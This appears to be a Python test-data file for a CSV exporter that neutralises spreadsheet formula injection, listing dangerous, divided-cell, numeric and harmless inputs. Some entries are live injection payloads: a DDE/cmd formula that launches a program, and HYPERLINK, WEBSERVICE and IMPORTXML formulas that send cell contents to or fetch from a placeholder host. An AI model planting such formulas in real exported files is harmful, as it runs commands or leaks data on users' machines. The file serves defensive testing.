"""Texts that spreadsheets like to calculate, link, round or garble."""

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t",
    "\rx",
    "\nx",
    " =1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x/?"&A1,"c")',
    '+HYPERLINK("http://x","c")',
    '=WEBSERVICE("http://x")',
    '=DDE("cmd";"/C calc";"!A0")',
    '=IMPORTXML("http://x","//a")',
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    "\u200b=1",
    "\ufeff=1",
    "\xa0=1",
    "=",
    "-",
    "+1 555 0100",
    "+14255550177",
    "+1-555-0100",
    "-1e5",
    "-5\n",
    "\tx",
    "\0x",
]
"""What the safe CSV puts a quote before."""

DIVIDED = {
    "Ana;=1+1;": "Ana;'=1+1;",
    ";=1": ";'=1",
    "a; @x;-5;-1-1": "a;' @x;-5;'-1-1",
    "a\t=1": "a\t'=1",
    "a\r\n=1": "a\r\n'=1",
    "=1;=2": "'=1;'=2",
    "\t=1": "'\t'=1",
    "\n=1": "'\n'=1",
}
"""What would be calculated where other signs divide cells than commas, and how the safe CSV has it."""

NUMBERS = ["-5", "-5.25", "-0", "-12345678901234567890"]
"""What begins like a formula and is none."""

HARMLESS = [
    '"=1"',
    "%3D1",
    ",=1",
    "{=1}",
    "'=1",
    "00123",
    "1E5",
    "1e5",
    "22E1",
    "3/4",
    "2026-01-02",
    "12345678901234567",
    "12345678901234567890",
    "TRUE",
    "#N/A",
    "nan",
    "http://example.org",
    "mailto:a@example.org",
    "internal:Sheet1!A1",
    "external:c:\\x.xlsx",
    "file:///etc/passwd",
    " leading",
    "trailing ",
    "two\nlines",
    'a "quoted" word',
    "a,b;c\td|e",
    "O’Neil, Zoë 王小明 עברית 😀",
    "e\u0301",
    "\u202egnp.exe",
    "&amp; <b>]]>",
    "_x0041_ _x000D_",
    "x" * 32_767,
]

ALL = FORMULAS + NUMBERS + HARMLESS
